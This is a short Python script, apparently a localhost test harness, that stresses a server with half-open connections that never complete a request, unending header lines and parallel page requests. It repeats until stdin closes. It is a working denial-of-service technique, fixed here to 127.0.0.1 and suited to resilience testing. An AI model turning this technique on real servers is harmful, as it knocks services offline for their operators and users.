"""Attack a server from one address, in a process of its own: half-open connections, header lines, and page views.

    python attack.py PORT HALF_OPEN HEADER_BYTES [PATH ...]

It prints a line when everything was sent once, and goes on until its stdin closes.
"""

from __future__ import annotations

import http.client
import socket
import sys
import threading
from contextlib import suppress

HEADER_LINE = b"X-Padding: " + b"a" * 8_000 + b"\r\n"
START = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n"


def open_half(port: int, count: int) -> None:
    """Open connections whose request never ends, and keep them all open."""
    opened = []
    for _ in range(count):
        with suppress(OSError):
            connection = socket.create_connection(("127.0.0.1", port), source_address=("127.0.0.1", 0))
            opened.append(connection)  # a connection that the server closed stays open on this side
            connection.sendall(START)
    held.append(opened)


def send_headers(port: int, amount: int) -> None:
    """Send header lines without an end; connect again whenever the server closes."""
    sent = 0
    while sent < amount:
        with suppress(OSError), socket.create_connection(("127.0.0.1", port)) as connection:
            connection.sendall(START)
            while sent < amount:
                connection.sendall(HEADER_LINE)
                sent += len(HEADER_LINE)


def view(port: int, path: str) -> None:
    """Request a page once."""
    with suppress(OSError, http.client.HTTPException):
        connection = http.client.HTTPConnection("127.0.0.1", port)
        connection.request("GET", path)
        connection.getresponse().read()


held: list[list[socket.socket]] = []


def attack_once(port: int, half_open: int, header_bytes: int, paths: list[str]) -> None:
    """Do everything at the same time."""
    threads = [
        threading.Thread(target=open_half, args=(port, half_open), daemon=True),
        threading.Thread(target=send_headers, args=(port, header_bytes), daemon=True),
        *(threading.Thread(target=view, args=(port, path), daemon=True) for path in paths),
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def wait_for_end(ended: threading.Event) -> None:
    """Wait until stdin closes."""
    sys.stdin.read()
    ended.set()


def main() -> None:
    """Attack until stdin closes."""
    ended = threading.Event()
    threading.Thread(target=wait_for_end, args=(ended,), daemon=True).start()
    port, half_open, header_bytes, *paths = sys.argv[1:]
    while not ended.is_set():
        attack_once(int(port), int(half_open), int(header_bytes), paths)
        print("attacked", flush=True)
        for connection in held.pop():
            connection.close()


if __name__ == "__main__":
    main()
